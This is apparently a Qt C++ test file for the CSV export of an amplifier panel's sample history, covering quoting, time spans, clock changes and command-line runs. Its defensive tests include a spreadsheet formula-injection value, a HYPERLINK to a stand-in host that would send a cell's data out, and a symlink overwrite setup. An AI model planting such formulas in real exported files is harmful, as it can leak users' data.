// The samples as CSV: the exact header, times and numbers as written, empty cells, RFC 4180 quoting,
// the span (from included, to not), raw rows where the file keeps them and "1min" rows (the
// minute's means) where only the folded ones are left, oldest first also after the clock was set
// back; and `valtrona-panel --export-csv`, with no display, while another program writes the file.
#include "history/event_log.h"
#include "history/history_database.h"
#include "history/sample_export.h"
#include "history/sample_recorder.h"
#include "history/sample_store.h"
#include "support/test_env.h"

#include <QBuffer>
#include <QProcess>
#include <QTextStream>
#include <QtTest>
#include <atomic>

#include <sys/stat.h>

using namespace history;

namespace {

const char kHeader[]
    = "time,forward_W,reflected_W,swr,psu_temp_C,amp_temp_C,current1_A,current2_A,current3_A,"
      "current4_A,voltage1_V,voltage2_V,voltage3_V,voltage4_V,power_limit_W,rf_drive,"
      "alarm_code,uptime,firmware,resolution";

qint64 at(const char *iso)
{
    return QDateTime::fromString(QString::fromLatin1(iso), Qt::ISODateWithMs).toMSecsSinceEpoch();
}

Sample full(qint64 time, double forward)
{
    Sample s;
    s.time = time;
    const double values[] = { forward, 4, 0, 35, 41, 2.5, 2.6, 2.7, 2.8, 48, 47.5, 48.5, 49, 500, 52 };
    for (int i = 0; i < kSeriesCount; ++i)
        s.values[i] = values[i];
    s.computeSwr();
    s.alarmCode = QStringLiteral("00");
    s.uptime = QStringLiteral("0012D:03H:45M");
    s.firmware = QStringLiteral("1.40");
    return s;
}

QStringList exportLines(const QString &file, qint64 from = kEarliest, qint64 to = kLatest)
{
    HistoryDatabase db(file, HistoryDatabase::Mode::ReadOnly);
    db.open();
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    qint64 rows = -1;
    if (!writeSamplesCsv(db, buffer, from, to, &rows))
        return { QStringLiteral("failed") };
    QString text = QString::fromUtf8(buffer.data());
    if (!text.endsWith(u'\n'))
        return { QStringLiteral("no line end at the end") };
    text.chop(1);
    const QStringList lines = text.split(u'\n');
    // A quoted line break makes one row two lines.
    if (rows != lines.size() - 1 - text.count(QStringLiteral("\r\n")))
        return { QStringLiteral("row count %1 for %2 lines").arg(rows).arg(lines.size()) };
    return lines;
}

} // namespace

class TestHistoryExport : public QObject
{
    Q_OBJECT
private:
    TestStoreHome m_home;
    QString m_file;

    // Twenty days ago a minute of three samples (folded by now), then the last days raw, among
    // them texts that need quoting and a report that lacked fields.
    void record()
    {
        SampleRecorder recorder(m_file);
        // Twenty days pass between the two parts on the steady clock too, so that retention
        // trusts the later times.
        std::atomic<qint64> steady { 0 };
        recorder.setSteadyClock([&steady] { return steady.load(); });
        const qint64 old = at("2026-05-01T10:15:00Z");
        for (int i = 0; i < 3; ++i)
            recorder.add(full(old + i * 20000, 10 + i)); // 10, 11, 12 W: mean 11
        steady = at("2026-05-21T08:00:00Z") - old;
        Sample quoted = full(at("2026-05-21T08:00:00.250Z"), 12.5);
        quoted.firmware = QStringLiteral("1.4 \"beta\", build 7");
        quoted.uptime = QStringLiteral("line\r\nbreak");
        recorder.add(quoted);
        Sample sparse; // only the forward power and the drive came
        sparse.time = at("2026-05-21T08:00:01.500Z");
        sparse.values[Forward] = 500;
        sparse.values[RfDrive] = 100;
        recorder.add(sparse);
        recorder.add(full(at("2026-05-21T08:00:03Z"), 0.3));
        QVERIFY(recorder.sync());
    }

private slots:
    void initTestCase()
    {
        m_file = HistoryDatabase::defaultPath();
        record();
    }
    void rows();
    void span_data();
    void span();
    void clockSetBackStaysInOrder();
    void commandLine_data();
    void commandLine();
    void commandLineWithoutHistory();
    void formulaCells();
    void commandLineRefusesOddFiles_data();
    void commandLineRefusesOddFiles();
};

void TestHistoryExport::rows()
{
    const QStringList lines = exportLines(m_file);
    QCOMPARE(lines.size(), 6);
    QCOMPARE(lines[0], QLatin1String(kHeader));
    QCOMPARE(QLatin1String(kSamplesCsvHeader), QLatin1String(kHeader));

    const QString swr = csvNumber(std::round(standingWaveRatio(12.5, 4).value() * 1000) / 1000);
    // The folded minute: its start, the means (the SWR's too: the mean of its samples' ratios),
    // every alarm on in it, the last texts.
    const double meanSwr = (standingWaveRatio(10, 4).value() + standingWaveRatio(11, 4).value()
                               + standingWaveRatio(12, 4).value())
        / 3;
    QCOMPARE(lines[1],
        QStringLiteral("2026-05-01T10:15:00.000Z,11,4,%1,35,41,2.5,2.6,2.7,2.8,48,47.5,48.5,49,"
                       "500,52,00,0012D:03H:45M,1.40,1min")
            .arg(csvNumber(std::round(meanSwr * 1000) / 1000)));
    // Raw rows: quoted texts (the field holding CR LF spans lines of the file).
    QCOMPARE(lines[2],
        QStringLiteral("2026-05-21T08:00:00.250Z,12.5,4,%1,35,41,2.5,2.6,2.7,2.8,48,47.5,48.5,49,500,"
                       "52,00,\"line\r")
            .arg(swr));
    QCOMPARE(lines[3], QStringLiteral("break\",\"1.4 \"\"beta\"\", build 7\",raw"));
    // Missing values are empty cells; no SWR without the reflected power.
    QCOMPARE(lines[4], QStringLiteral("2026-05-21T08:00:01.500Z,500,,,,,,,,,,,,,,100,,,,raw"));
    QCOMPARE(lines[5],
        QStringLiteral("2026-05-21T08:00:03.000Z,0.3,4,,35,41,2.5,2.6,2.7,2.8,48,47.5,48.5,49,500,52,"
                       "00,0012D:03H:45M,1.40,raw"));
    QCOMPARE(exportLines(m_file), lines); // and the same again
}

void TestHistoryExport::span_data()
{
    QTest::addColumn<QString>("from");
    QTest::addColumn<QString>("to");
    QTest::addColumn<QStringList>("times");

    const QString folded = "2026-05-01T10:15:00.000Z";
    const QString a = "2026-05-21T08:00:00.250Z", b = "2026-05-21T08:00:01.500Z",
                  c = "2026-05-21T08:00:03.000Z";
    QTest::newRow("everything") << QString() << QString() << QStringList { folded, a, b, c };
    QTest::newRow("from included") << b << QString() << QStringList { b, c };
    QTest::newRow("to excluded") << QString() << b << QStringList { folded, a };
    QTest::newRow("between") << "2026-05-21T08:00:00.251Z"
                             << "2026-05-21T08:00:03.001Z" << QStringList { b, c };
    QTest::newRow("a minute counts at its start") << "2026-05-01T10:15:00Z"
                                                  << "2026-05-01T10:15:01Z" << QStringList { folded };
    QTest::newRow("minute started before") << "2026-05-01T10:15:30Z"
                                           << "2026-05-02T00:00:00Z" << QStringList {};
    QTest::newRow("nothing there") << "2027-01-01T00:00:00Z"
                                   << "2028-01-01T00:00:00Z" << QStringList {};
}

void TestHistoryExport::span()
{
    QFETCH(QString, from);
    QFETCH(QString, to);
    QFETCH(QStringList, times);
    const QStringList lines = exportLines(m_file, from.isEmpty() ? kEarliest : at(qPrintable(from)),
        to.isEmpty() ? kLatest : at(qPrintable(to)));
    QVERIFY(!lines.isEmpty());
    QCOMPARE(lines.first(), QLatin1String(kHeader));
    QStringList got;
    for (const QString &line : lines.mid(1)) {
        if (line.startsWith(QLatin1String("20")))
            got << line.section(u',', 0, 0);
    }
    QCOMPARE(got, times);
}

// Samples stamped by a clock that was set back come out among the others in time order.
void TestHistoryExport::clockSetBackStaysInOrder()
{
    QTemporaryDir dir;
    const QString file = dir.filePath(QStringLiteral("clock.sqlite"));
    {
        SampleRecorder recorder(file);
        const qint64 t = at("2026-06-01T12:00:00Z");
        for (int i = 0; i < 10; ++i)
            recorder.add(full(t + i * 1000, i));
        for (int i = 10; i < 20; ++i)
            recorder.add(full(t - 5500 + (i - 10) * 1000, i)); // set back by 15.5 s
        QVERIFY(recorder.sync());
    }
    const QStringList lines = exportLines(file);
    QCOMPARE(lines.size(), 21);
    QStringList times;
    QList<int> forwards;
    for (const QString &line : lines.mid(1)) {
        times << line.section(u',', 0, 0);
        forwards << line.section(u',', 1, 1).toInt();
    }
    QStringList sorted = times;
    std::sort(sorted.begin(), sorted.end());
    QCOMPARE(times, sorted);
    std::sort(forwards.begin(), forwards.end());
    for (int i = 0; i < 20; ++i)
        QCOMPARE(forwards[i], i);
}

void TestHistoryExport::commandLine_data()
{
    QTest::addColumn<QStringList>("span");
    QTest::addColumn<QString>("from"); // the same span in UTC, empty: open
    QTest::addColumn<QString>("to");
    QTest::addColumn<int>("rows"); // at least
    QTest::newRow("everything") << QStringList() << QString() << QString() << 5;
    QTest::newRow("UTC without offset")
        << QStringList { "--from", "2026-05-21T08:00:01.5" } << "2026-05-21T08:00:01.500Z" << QString() << 3;
    QTest::newRow("with an offset") << QStringList { "--from", "2026-05-21T10:00:01.500+02:00", "--to",
        "2026-05-21T10:00:03+02:00" }
                                    << "2026-05-21T08:00:01.500Z"
                                    << "2026-05-21T08:00:03Z" << 1;
    QTest::newRow("a date") << QStringList { "--to", "2026-05-21" } << QString() << "2026-05-21T00:00:00Z"
                            << 1;
}

// The program itself, as an operator runs it while the panel records into the same file.
void TestHistoryExport::commandLine()
{
    QFETCH(QStringList, span);
    QFETCH(QString, from);
    QFETCH(QString, to);
    QFETCH(int, rows);
    SampleRecorder writer(m_file); // another copy, holding the file and writing to it
    static int run = 0;
    writer.add(full(at("2026-05-22T00:00:00Z") + 1000 * ++run, 7));
    QVERIFY(writer.sync());

    QTemporaryDir dir;
    const QString out = dir.filePath(QStringLiteral("out.csv"));
    QProcess panel;
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.remove(QStringLiteral("DISPLAY"));
    env.remove(QStringLiteral("WAYLAND_DISPLAY"));
    env.remove(QStringLiteral("QT_QPA_PLATFORM"));
    panel.setProcessEnvironment(env);
    panel.start(QStringLiteral(VALTRONA_PANEL_PATH), QStringList { "--export-csv", out } + span);
    QVERIFY(panel.waitForFinished(30000));
    QCOMPARE(panel.exitStatus(), QProcess::NormalExit);
    QVERIFY2(panel.exitCode() == 0, panel.readAllStandardError().constData());
    QFile file(out);
    QVERIFY(file.open(QIODevice::ReadOnly));
    const QByteArray bytes = file.readAll();

    // What the program wrote is the export of that span, read here beside the writer.
    const QStringList expected = exportLines(m_file, from.isEmpty() ? kEarliest : at(qPrintable(from)),
        to.isEmpty() ? kLatest : at(qPrintable(to)));
    QCOMPARE(QString::fromUtf8(bytes), expected.join(u'\n') + u'\n');
    QVERIFY(bytes.count('\n') >= rows + 1);

    // To standard output with "-": the same bytes.
    QProcess toStdout;
    toStdout.setProcessEnvironment(env);
    toStdout.start(QStringLiteral(VALTRONA_PANEL_PATH), QStringList { "--export-csv", "-" } + span);
    QVERIFY(toStdout.waitForFinished(30000));
    QCOMPARE(toStdout.exitCode(), 0);
    QCOMPARE(toStdout.readAllStandardOutput(), bytes);
}

void TestHistoryExport::commandLineWithoutHistory()
{
    QTemporaryDir empty;
    QProcess panel;
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.insert(QStringLiteral("XDG_DATA_HOME"), empty.path());
    panel.setProcessEnvironment(env);
    panel.start(QStringLiteral(VALTRONA_PANEL_PATH), { "--export-csv", "-" });
    QVERIFY(panel.waitForFinished(30000));
    QCOMPARE(panel.exitCode(), 0);
    QCOMPARE(panel.readAllStandardOutput(), QByteArray(kHeader) + '\n');
    QVERIFY(!QFileInfo::exists(empty.filePath(QStringLiteral("ZTK Electronics"))));

    panel.start(QStringLiteral(VALTRONA_PANEL_PATH), { "--export-csv", "-", "--from", "yesterday" });
    QVERIFY(panel.waitForFinished(30000));
    QCOMPARE(panel.exitCode(), 2);
    QVERIFY(panel.readAllStandardError().contains("is not a time in ISO 8601"));
}

// A text from the wire that a spreadsheet would take for a formula is written as text, with a quote
// before it; numbers stay numbers, also a negative one.
void TestHistoryExport::formulaCells()
{
    QTemporaryDir dir;
    const QString file = dir.filePath(QStringLiteral("formula.sqlite"));
    {
        SampleRecorder recorder(file);
        Sample s = full(at("2026-06-01T12:00:00Z"), 12.5);
        s.values[PsuTemp] = -3;
        s.firmware = QStringLiteral("=HYPERLINK(\"http://x.example/\"&B2)");
        s.uptime = QStringLiteral("@SUM(1)");
        s.alarmCode = QStringLiteral("+1");
        recorder.add(s);
        QVERIFY(recorder.sync());
    }
    const QStringList lines = exportLines(file);
    QCOMPARE(lines.size(), 2);
    const QString row = lines[1];
    QVERIFY2(row.endsWith(QStringLiteral(",'+1,'@SUM(1),\"'=HYPERLINK(\"\"http://x.example/\"\"&B2)\",raw")),
        qPrintable(row));
    QCOMPARE(row.section(u',', 4, 4), QStringLiteral("-3"));

    // And the event log's detail.
    HistoryDatabase db(file);
    EventLog log(db);
    QVERIFY(log.append(QStringLiteral("settings downloaded"), QStringLiteral("-2+3")));
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    QVERIFY(log.writeCsv(buffer));
    QVERIFY2(buffer.data().endsWith(",settings downloaded,'-2+3\n"), buffer.data().constData());
}

void TestHistoryExport::commandLineRefusesOddFiles_data()
{
    QTest::addColumn<bool>("link");
    QTest::newRow("a symbolic link to the operator's file") << true;
    QTest::newRow("a named pipe") << false;
}

// Another user's /tmp/h.csv -> ~/.bashrc must not overwrite the operator's file.
void TestHistoryExport::commandLineRefusesOddFiles()
{
    QFETCH(bool, link);
    QTemporaryDir dir;
    const QString target = dir.filePath(QStringLiteral("bashrc"));
    const QString out = dir.filePath(QStringLiteral("h.csv"));
    {
        QFile f(target);
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write("export PATH\n");
    }
    if (link)
        QVERIFY(QFile::link(target, out));
    else
        QCOMPARE(::mkfifo(QFile::encodeName(out).constData(), 0600), 0);
    QProcess panel;
    panel.start(QStringLiteral(VALTRONA_PANEL_PATH), { "--export-csv", out });
    QVERIFY(panel.waitForFinished(30000));
    QCOMPARE(panel.exitCode(), 1);
    const QByteArray error = panel.readAllStandardError();
    QVERIFY2(error.contains(link ? "is a symbolic link; nothing was written" : "is not a regular file"),
        error.constData());
    QFile f(target);
    QVERIFY(f.open(QIODevice::ReadOnly));
    QCOMPARE(f.readAll(), QByteArray("export PATH\n"));
    QCOMPARE(QFileInfo(out).isSymLink(), link);
    QCOMPARE(
        QDir(dir.path()).entryList(QDir::Files | QDir::Hidden | QDir::System).size(), 2); // no temporary left

    // A regular file is replaced by a new one (a rename), with the export.
    QVERIFY(QFile::remove(out));
    QVERIFY(QFile::copy(target, out));
    panel.start(QStringLiteral(VALTRONA_PANEL_PATH), { "--export-csv", out });
    QVERIFY(panel.waitForFinished(30000));
    QCOMPARE(panel.exitCode(), 0);
    QFile written(out);
    QVERIFY(written.open(QIODevice::ReadOnly));
    QVERIFY(written.readAll().startsWith(kHeader));
}

QTEST_GUILESS_MAIN(TestHistoryExport)
#include "tst_history_export.moc"
